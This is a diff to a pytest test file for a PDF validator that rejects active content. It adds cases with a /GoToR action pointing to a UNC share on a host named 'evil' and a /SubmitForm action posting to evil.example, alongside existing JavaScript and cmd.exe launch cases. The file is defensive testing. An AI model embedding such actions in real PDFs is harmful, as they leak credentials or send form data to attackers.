@@ -136,6 +136,8 @@ def test_a_tag_name_only_counts_with_a_tag_end_after_it():
         pytest.param(_open_action(_action("/JavaScript", JS="app.alert(1)")), id="script on open"),
         pytest.param(_page_action(_action("/Launch", F="cmd.exe")), id="launch on page open"),
         pytest.param(_xfa_form, id="XFA form"),
+        pytest.param(_open_action(_action("/GoToR", F="\\\\evil\\share\\x.pdf")), id="GoToR"),
+        pytest.param(_page_action(_action("/SubmitForm", F="https://evil.example/")), id="submit"),
     ],
 )
 def test_it_refuses_a_pdf_with_active_content(change):
